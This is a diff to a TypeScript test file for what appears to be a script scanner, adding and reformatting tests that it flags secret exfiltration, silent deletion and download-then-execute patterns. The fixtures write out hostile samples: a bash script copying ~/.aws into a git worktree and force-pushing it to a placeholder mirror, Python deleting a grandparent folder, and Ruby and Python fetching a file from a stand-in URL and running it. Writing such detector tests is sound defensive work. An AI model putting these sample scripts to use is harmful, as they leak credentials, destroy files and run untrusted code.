@@ -363,16 +363,15 @@ test('package sources: a registry, index or proxy that a document the script dow
 test('flows: secrets copied into a worktree and pushed straight to an address a variable holds', () => {
   const sh = (src: string, mirror: string) =>
     `#!/bin/bash\nMIRROR=\${PLAN_MIRROR:-${mirror}}\nsnap=$(mktemp -d)\ngit worktree add -q "$snap" HEAD\ncp -rf ${src} "$snap/.profile-copy"\n( cd "$snap" && git add -f -A && git commit -qm snapshot && git push -q --force "$MIRROR" HEAD:refs/heads/snap )\n`;
-  assert.ok(
-    loud({ 'scripts/s.sh': sh('~/.aws', 'https://git.plan-archive.invalid/m.git') }).includes('error sentinel/secret-exfiltration scripts/s.sh:6'),
-  );
+  assert.ok(loud({ 'scripts/s.sh': sh('~/.aws', 'https://git.plan-archive.invalid/m.git') }).includes('error sentinel/secret-exfiltration scripts/s.sh:6'));
   // (the project's own files pushed; no address written)
   same({ 'scripts/s.sh': sh('./docs', 'https://git.plan-archive.invalid/m.git') }, []);
   assert.ok(!loud({ 'scripts/s.sh': sh('~/.aws', '') }).some((f) => f.includes('secret-exfiltration')));
 });
 
 test('deletes: the grandparent of any folder the code holds, and a folder climbed in a loop', () => {
-  const reset = (expr: string) => `import shutil, pathlib\n\ndef full_reset(out: pathlib.Path):\n    root = ${expr}\n    shutil.rmtree(root, ignore_errors=True)\n`;
+  const reset = (expr: string) =>
+    `import shutil, pathlib\n\ndef full_reset(out: pathlib.Path):\n    root = ${expr}\n    shutil.rmtree(root, ignore_errors=True)\n`;
   same({ 'scripts/b.py': reset('out.resolve().parents[1]') }, ['error sentinel/silent-delete scripts/b.py:5']);
   // (the folder's own parent's subfolder it made)
   same({ 'scripts/b.py': reset('out.resolve().parents[0] / "cache"') }, []);
@@ -380,4 +379,30 @@ test('deletes: the grandparent of any folder the code holds, and a folder climbe
     `import shutil\nfrom pathlib import Path\n\ndef tidy():\n${climb}\n    for p in gen.iterdir():\n        if p.is_dir():\n            shutil.rmtree(p, ignore_errors=True)\n`;
   same({ 'scripts/a.py': tidy('    gen = Path.cwd()\n    for _ in range(2):\n        gen = gen.parent') }, ['error sentinel/silent-delete scripts/a.py:10']);
   same({ 'scripts/a.py': tidy('    gen = Path.cwd() / "build"') }, []);
+});
+
+test('download now, run later: a helper with no arguments saves what its own URL serves, returns the path, and the script runs it', () => {
+  const rb = (use: string) =>
+    [
+      'require "net/http"',
+      'require "fileutils"',
+      'HELPER_SRC = URI("https://cdn.fleet-helpers.example.invalid/cmd/helper-latest")',
+      'def refresh_helper',
+      '  dest = File.join(Dir.home, "Library/Application Support/fleet/helper")',
+      '  res = Net::HTTP.get_response(HELPER_SRC)',
+      '  File.binwrite(dest, res.body)',
+      '  File.chmod(0o755, dest)',
+      '  dest',
+      'end',
+      'helper = refresh_helper',
+      use,
+      '',
+    ].join('\n');
+  assert.ok(loud({ 'scripts/m.rb': rb('system(helper, "sync")') }).includes('error sentinel/download-exec scripts/m.rb:11'));
+  // (the saved file read, not run)
+  assert.ok(!loud({ 'scripts/m.rb': rb('puts File.size(helper)') }).some((f) => f.includes('download-exec')));
+  const py = (use: string) =>
+    `import subprocess, urllib.request\nTOOL_URL = "https://dl.example.invalid/tool.sh"\n\ndef fetch_tool():\n    dest = "/tmp/tool.sh"\n    urllib.request.urlretrieve(TOOL_URL, dest)\n    return dest\n\np = fetch_tool()\n${use}\n`;
+  assert.ok(loud({ 'scripts/t.py': py('subprocess.run(["bash", p], check=True)') }).some((f) => f.startsWith('error sentinel/download-exec')));
+  assert.ok(!loud({ 'scripts/t.py': py('print(open(p).read())') }).some((f) => f.includes('download-exec')));
 });
